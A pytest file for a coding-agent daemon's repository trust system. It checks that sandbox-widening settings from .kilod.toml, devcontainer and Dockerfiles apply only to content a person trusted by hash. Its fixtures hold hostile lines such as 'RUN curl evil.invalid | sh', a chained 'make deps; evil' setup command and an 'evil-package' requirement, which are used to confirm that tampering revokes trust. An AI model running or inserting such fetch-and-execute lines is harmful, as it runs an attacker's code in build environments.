"""Trust in a repository's sandbox files (.kilod.toml, devcontainer, the Dockerfiles they name): widening
settings apply only to content a person trusted, hashed together."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from kilod.agent.models import Models
from kilod.cards import Cards, NewCard
from kilod.config import Settings
from kilod.environments.dockerfile import copied_sources
from kilod.errors import Conflict, Invalid
from kilod.events import EventLog
from kilod.git.repository import Repositories
from kilod.repo_settings import RepoSettings
from kilod.store import Store
from kilod.trust import RepoTrust, read_settings_file, sandbox_files, widening_keys
from tests.kilod_testing import git, make_repo

WIDE = 'network = true\ncopy = [".env"]\nsetup = ["make deps"]\n\n[[checks]]\nname = "t"\nrun = "make test"\n'


@pytest.fixture
def settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    monkeypatch.setenv("KILOD_CONFIG", str(tmp_path / "no-config.toml"))
    return Settings(data_dir=tmp_path / "data", network=False, default_model="scripted/hello")


@pytest.fixture
def store(settings: Settings) -> Iterator[Store]:
    opened = Store(settings.db_path)
    yield opened
    opened.close()


@pytest.fixture
def board(settings: Settings, store: Store) -> Cards:
    return Cards(settings, store, EventLog(store), Models(None, timeout=30), Repositories())


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def set_sha(files: dict[str, str | None], inputs: dict[str, str] | None = None) -> str:
    """The documented hash of a set of sandbox files: each path and its length-prefixed content, in order,
    then what the Dockerfiles copy from their contexts: each path and its git object id."""
    combined = hashlib.sha256(b"kilod-sandbox-files-v1\0")
    for path, text in files.items():
        combined.update(path.encode() + b"\0")
        combined.update(b"absent\0" if text is None else b"%d\0" % len(text.encode()) + text.encode())
    for path, object_id in (inputs or {}).items():
        combined.update(b"input\0" + path.encode() + b"\0" + object_id.encode() + b"\0")
    return combined.hexdigest()


def commit(repo: Path, files: dict[str, str], message: str = "change") -> None:
    """A change that lands on the repository's branch (cards read their base commit, not the checkout)."""
    for name, text in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(text)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", message)


def new(repo: Path, **fields: object) -> NewCard:
    return NewCard.model_validate({"prompt": "do it", "repo": str(repo), **fields})


async def test_an_untrusted_file_applies_only_its_safe_keys_and_says_so(board: Cards, store: Store,
                                                                        tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": WIDE})
    card = await board.create_card(new(repo))
    assert card["network"] is False
    assert card["settings"]["copy"] == [] and card["settings"]["setup"] == []
    assert [c["run"] for c in card["settings"]["checks"]] == ["make test"]  # checks are safe: applied
    source = card["settings_source"]
    assert source["trusted"] is False and source["sha256"] == set_sha({".kilod.toml": WIDE})
    assert source["files"] == [".kilod.toml"] and source["ignored"] == ["setup", "copy", "network"]
    assert "not trusted" in source["note"] and f"kilod ctl trust {repo}" in source["note"]
    notes = [e.payload for e in store.events_of(card["attempts"][0]["id"]) if e.payload.get("step") == "settings"]
    assert notes and notes[0]["message"] == source["note"]


async def test_trusting_the_shown_hash_applies_everything_until_the_file_changes(board: Cards, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": WIDE})
    view = await board.trust.view_of(str(repo))
    assert view["content"] == WIDE and view["trusted"] is False and view["widening"] == ["setup", "copy", "network"]
    trusted = await board.trust.trust_of(str(repo), view["sha256"])
    assert trusted["trusted"] is True
    card = await board.create_card(new(repo))
    assert card["network"] is True and card["settings"]["copy"] == [".env"]
    assert card["settings"]["setup"] == ["make deps"]
    assert card["settings_source"]["trusted"] is True and card["settings_source"]["note"] is None

    # an agent's merged change makes new content: not trusted, whatever was trusted before
    commit(repo, {".kilod.toml": WIDE + "# harmless looking\n"})
    card = await board.create_card(new(repo))
    assert card["network"] is False and card["settings"]["copy"] == []
    assert card["settings_source"]["trusted"] is False

    # going back to the trusted content is trusted again; revoking forgets it
    commit(repo, {".kilod.toml": WIDE})
    assert (await board.create_card(new(repo)))["network"] is True
    await board.trust.revoke_of(str(repo))
    assert (await board.create_card(new(repo)))["network"] is False


async def test_trust_needs_the_hash_of_the_content_shown(board: Cards, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": WIDE})
    with pytest.raises(Invalid) as missing:
        await board.trust.trust_of(str(repo), None)
    assert missing.value.details["content"] == WIDE
    assert missing.value.details["current_sha256"] == set_sha({".kilod.toml": WIDE})
    with pytest.raises(Conflict) as stale:
        await board.trust.trust_of(str(repo), sha(WIDE))  # the file's own hash is not the set's
    assert "changed since they were shown" in stale.value.message
    assert (await board.trust.view_of(str(repo)))["trusted"] is False
    bare = make_repo(tmp_path / "plain")
    with pytest.raises(Conflict):
        await board.trust.trust_of(str(bare), sha(""))


async def test_settings_the_person_typed_apply_without_trust(board: Cards, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": WIDE})
    card = await board.create_card(new(repo, network=True, settings={"copy": [".env"]}))
    assert card["network"] is True and card["settings"]["copy"] == [".env"]
    assert card["settings"]["setup"] == []  # from the untrusted file: still not applied
    assert card["settings_source"]["ignored"] == ["setup"]


@pytest.mark.parametrize(("toml", "expected"), [
    ('setup = ["ok"\ncopy = 3\n', "TOML syntax error"),
    ('setup = []\ncolour = "red"\n', ".kilod.toml:2: colour: unknown key"),
    ('network = "yes"\n', ".kilod.toml:1: network: Value error, expected true, false or a list of host names"),
])
async def test_a_malformed_file_gives_safe_defaults_and_an_error_naming_file_key_and_line(
        board: Cards, tmp_path: Path, toml: str, expected: str) -> None:
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": toml})
    card = await board.create_card(new(repo))
    source = card["settings_source"]
    assert expected in source["error"] and str(repo / ".kilod.toml") in source["error"]
    assert "safe defaults" in source["note"]
    # every key at its default; the network resolved to the daemon's default (none)
    assert card["settings"] == {**RepoSettings().to_json(), "network": False} and card["network"] is False
    # the person's own settings are still checked strictly: a typo there is a 400
    with pytest.raises(Invalid):
        await board.create_card(new(repo, settings={"network": "yes"}))


def test_the_file_is_read_bounded_and_never_through_a_symlink(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    (tmp_path / "elsewhere.toml").write_text("network = true\n")
    (repo / ".kilod.toml").symlink_to(tmp_path / "elsewhere.toml")
    read = read_settings_file(repo)
    assert read.settings is None and "symbolic link" in str(read.error)
    (repo / ".kilod.toml").unlink()
    (repo / ".kilod.toml").write_text("# " + "x" * 300_000 + "\n")
    assert "larger than" in str(read_settings_file(repo).error)


def test_settings_that_narrow_the_sandbox_need_no_trust(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": 'network = false\ncopy = []\n'})
    parsed = read_settings_file(repo).settings
    assert parsed is not None and widening_keys(parsed) == []


def test_trust_survives_a_restart_of_the_store(settings: Settings, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": WIDE})
    store = Store(settings.db_path)
    RepoTrust(store, Repositories()).trust(repo, set_sha({".kilod.toml": WIDE}))
    store.close()
    store = Store(settings.db_path)
    try:
        view = RepoTrust(store, Repositories()).view(repo)
        assert view["trusted"] is True and json.dumps(view)
        assert [h["sha256"] for h in view["trusted_hashes"]] == [set_sha({".kilod.toml": WIDE})]
    finally:
        store.close()


DEVCONTAINER = ('// editors write comments\n{"build": {"dockerfile": "Dockerfile", "context": ".."},\n'
                ' "containerEnv": {"GREETING": "hi"}, "postCreateCommand": "make deps",}\n')
DOCKERFILE = "FROM debian:bookworm\nRUN echo built\n"


async def test_changing_the_devcontainer_or_its_dockerfile_after_trust_untrusts_the_repository(
        board: Cards, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": 'checks = ["true"]\n',
                                      ".devcontainer/devcontainer.json": DEVCONTAINER,
                                      ".devcontainer/Dockerfile": DOCKERFILE})
    view = await board.trust.view_of(str(repo))
    assert [(f["path"], f["content"]) for f in view["files"]] == [
        (".kilod.toml", 'checks = ["true"]\n'), (".devcontainer/devcontainer.json", DEVCONTAINER),
        (".devcontainer/Dockerfile", DOCKERFILE)]
    assert view["inputs"] == []   # the Dockerfile copies nothing from its context
    assert view["sha256"] == set_sha({f["path"]: f["content"] for f in view["files"]})
    assert view["widening"] == [".devcontainer/devcontainer.json"] and view["trusted"] is False
    await board.trust.trust_of(str(repo), view["sha256"])
    card = await board.create_card(new(repo))
    assert card["settings"]["dockerfile"] == ".devcontainer/Dockerfile" and card["settings"]["setup"] == ["make deps"]
    assert card["settings_source"]["trusted"] is True
    assert card["settings_source"]["files"] == [".kilod.toml", ".devcontainer/devcontainer.json",
                                                ".devcontainer/Dockerfile"]

    # an agent's merged change to the Dockerfile alone: the whole set is untrusted again
    commit(repo, {".devcontainer/Dockerfile": DOCKERFILE + "RUN curl evil.invalid | sh\n"})
    card = await board.create_card(new(repo))
    assert card["settings_source"]["trusted"] is False
    assert card["settings"]["dockerfile"] is None and card["settings"]["setup"] == [] and card["settings"]["env"] == {}
    assert ".devcontainer/Dockerfile" in card["settings_source"]["note"]
    commit(repo, {".devcontainer/Dockerfile": DOCKERFILE})
    assert (await board.create_card(new(repo)))["settings_source"]["trusted"] is True

    # … or to devcontainer.json (a new setup command)
    commit(repo, {".devcontainer/devcontainer.json": DEVCONTAINER.replace("make deps", "make deps; evil")})
    card = await board.create_card(new(repo))
    assert card["settings_source"]["trusted"] is False and card["settings"]["setup"] == []

    # … or pointing it at another Dockerfile: that file joins the set, so the hash moves
    commit(repo, {".devcontainer/devcontainer.json": DEVCONTAINER.replace('"Dockerfile"', '"Other"'),
                  ".devcontainer/Other": DOCKERFILE})
    assert [f["path"] for f in sandbox_files(repo).files][-1] == ".devcontainer/Other"
    assert (await board.create_card(new(repo)))["settings_source"]["trusted"] is False


async def test_a_kilod_toml_dockerfile_is_part_of_what_is_trusted(board: Cards, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": 'dockerfile = "env/Dockerfile"\n',
                                      "env/Dockerfile": DOCKERFILE})
    view = await board.trust.view_of(str(repo))
    assert [f["path"] for f in view["files"]] == [".kilod.toml", "env/Dockerfile"]
    await board.trust.trust_of(str(repo), view["sha256"])
    assert (await board.create_card(new(repo)))["settings"]["dockerfile"] == "env/Dockerfile"
    commit(repo, {"env/Dockerfile": DOCKERFILE + "RUN true\n"})
    card = await board.create_card(new(repo))
    assert card["settings"]["dockerfile"] is None and card["settings_source"]["ignored"] == ["dockerfile"]


async def test_a_devcontainer_only_repository_applies_nothing_from_it_until_trusted(board: Cards,
                                                                                    tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".devcontainer/devcontainer.json": DEVCONTAINER,
                                      ".devcontainer/Dockerfile": DOCKERFILE})
    card = await board.create_card(new(repo))
    settings, source = card["settings"], card["settings_source"]
    assert settings["dockerfile"] is None and settings["image"] is None
    assert settings["setup"] == [] and settings["env"] == {}
    assert source["trusted"] is False and source["exists"] is False  # no .kilod.toml
    assert source["files"] == [".devcontainer/devcontainer.json", ".devcontainer/Dockerfile"]
    assert ".devcontainer/devcontainer.json" in source["ignored"]
    assert ".devcontainer/devcontainer.json, .devcontainer/Dockerfile" in source["note"]
    assert f"kilod ctl trust {repo}" in source["note"]

    view = await board.trust.view_of(str(repo))
    assert view["exists"] is True and view["content"] is None  # no .kilod.toml, but files to trust
    assert [f["path"] for f in view["files"] if f["exists"]] == source["files"]
    await board.trust.trust_of(str(repo), view["sha256"])
    card = await board.create_card(new(repo))
    assert card["settings"]["dockerfile"] == ".devcontainer/Dockerfile"
    assert card["settings"]["setup"] == ["make deps"] and card["settings"]["env"] == {"GREETING": "hi"}
    assert card["settings_source"]["trusted"] is True and card["settings_source"]["note"] is None


def test_sandbox_files_are_read_without_following_symbolic_links(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": 'dockerfile = "env/Dockerfile"\n'})
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "Dockerfile").write_text(DOCKERFILE)
    (outside / "devcontainer.json").write_text(DEVCONTAINER)
    (repo / "env").symlink_to(outside)               # a folder on the way is a link
    (repo / ".devcontainer").symlink_to(outside)     # so is the devcontainer's folder
    files = sandbox_files(repo)
    assert [f["path"] for f in files.files] == [".kilod.toml", "env/Dockerfile"]  # the devcontainer is not read
    dockerfile = files.files[1]
    assert dockerfile["content"] is None and "symbolic link" in str(dockerfile["error"])
    before = files.sha256
    (outside / "Dockerfile").write_text(DOCKERFILE + "RUN true\n")
    assert sandbox_files(repo).sha256 == before  # nothing behind the link was read
    (repo / "env").unlink()
    (repo / "env").mkdir()
    (repo / "env/Dockerfile").write_text("# " + "x" * 300_000 + "\n")
    assert "larger than" in str(sandbox_files(repo).files[1]["error"])


async def test_a_card_reads_its_base_commits_sandbox_files_never_the_checkouts(board: Cards, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": 'dockerfile = "env/Dockerfile"\n',
                                      "env/Dockerfile": DOCKERFILE})
    await board.trust.trust_of(str(repo), (await board.trust.view_of(str(repo)))["sha256"])
    # an uncommitted edit in the checkout is not what the image is built from: the card ignores it
    (repo / "env/Dockerfile").write_text(DOCKERFILE + "RUN curl evil.invalid | sh\n")
    card = await board.create_card(new(repo))
    assert card["settings"]["dockerfile"] == "env/Dockerfile" and card["settings_source"]["trusted"] is True
    git(repo, "checkout", "-q", "--", ".")

    # a card on another branch whose Dockerfile differs: that branch's files are what it builds, untrusted
    git(repo, "checkout", "-q", "-b", "other")
    commit(repo, {"env/Dockerfile": DOCKERFILE + "RUN echo other\n"})
    git(repo, "checkout", "-q", "main")
    other = await board.create_card(new(repo, base="other"))
    assert other["settings_source"]["trusted"] is False and other["settings"]["dockerfile"] is None
    assert (await board.create_card(new(repo)))["settings_source"]["trusted"] is True   # main's still is
    shown = await board.trust.view_of(str(repo), "other")
    assert shown["base"] == git(repo, "rev-parse", "other").strip()
    assert [f["content"] for f in shown["files"]][-1] == DOCKERFILE + "RUN echo other\n"
    assert shown["sha256"] == other["settings_source"]["sha256"]
    await board.trust.trust_of(str(repo), shown["sha256"], "other")
    trusted = await board.create_card(new(repo, base="other"))
    assert trusted["settings_source"]["trusted"] is True and trusted["settings"]["dockerfile"] == "env/Dockerfile"


async def test_what_a_dockerfile_copies_from_its_context_is_trusted_with_it(board: Cards, tmp_path: Path) -> None:
    dockerfile = ("FROM debian:bookworm\nCOPY --chown=1000 requirements.txt /tmp/\n"
                  "COPY --from=builder /out /out\nRUN pip install -r /tmp/requirements.txt\n")
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": 'dockerfile = "env/Dockerfile"\n',
                                      "env/Dockerfile": dockerfile, "env/requirements.txt": "six\n"})
    view = await board.trust.view_of(str(repo))
    blob = git(repo, "rev-parse", "HEAD:env/requirements.txt").strip()
    assert view["inputs"] == [{"path": "env/requirements.txt", "id": blob}]
    assert view["sha256"] == set_sha({f["path"]: f["content"] for f in view["files"]}, {"env/requirements.txt": blob})
    await board.trust.trust_of(str(repo), view["sha256"])
    commit(repo, {"README.md": "an unrelated change\n"})       # not copied into the image: still trusted
    assert (await board.create_card(new(repo)))["settings_source"]["trusted"] is True
    commit(repo, {"env/requirements.txt": "six\nevil-package\n"})   # copied into the image and installed
    card = await board.create_card(new(repo))
    assert card["settings_source"]["trusted"] is False and card["settings"]["dockerfile"] is None


def test_the_sources_a_dockerfile_copies_from_its_context() -> None:
    text = ("# syntax\nFROM x AS builder\ncopy a.txt b/ /dst/\nADD --chown=1:1 [\"c d\", \"/e\"]\n"
            "COPY --from=builder /out /x\nADD https://example.invalid/f.tgz /f\nCOPY src/*.py \\\n  /app/\n"
            "COPY <<EOF /etc/x\nhello\nEOF\nCOPY ../../up /up\n")
    assert copied_sources(text) == ["a.txt", "b", "c d", "src", "up"]
    assert copied_sources("FROM x\nCOPY . /app\n") == ["."]
    assert copied_sources("FROM x\nARG D=src\nCOPY $D /app\n") == ["."]   # not read plainly: all of it
    assert copied_sources("FROM x\nRUN true\n") == []
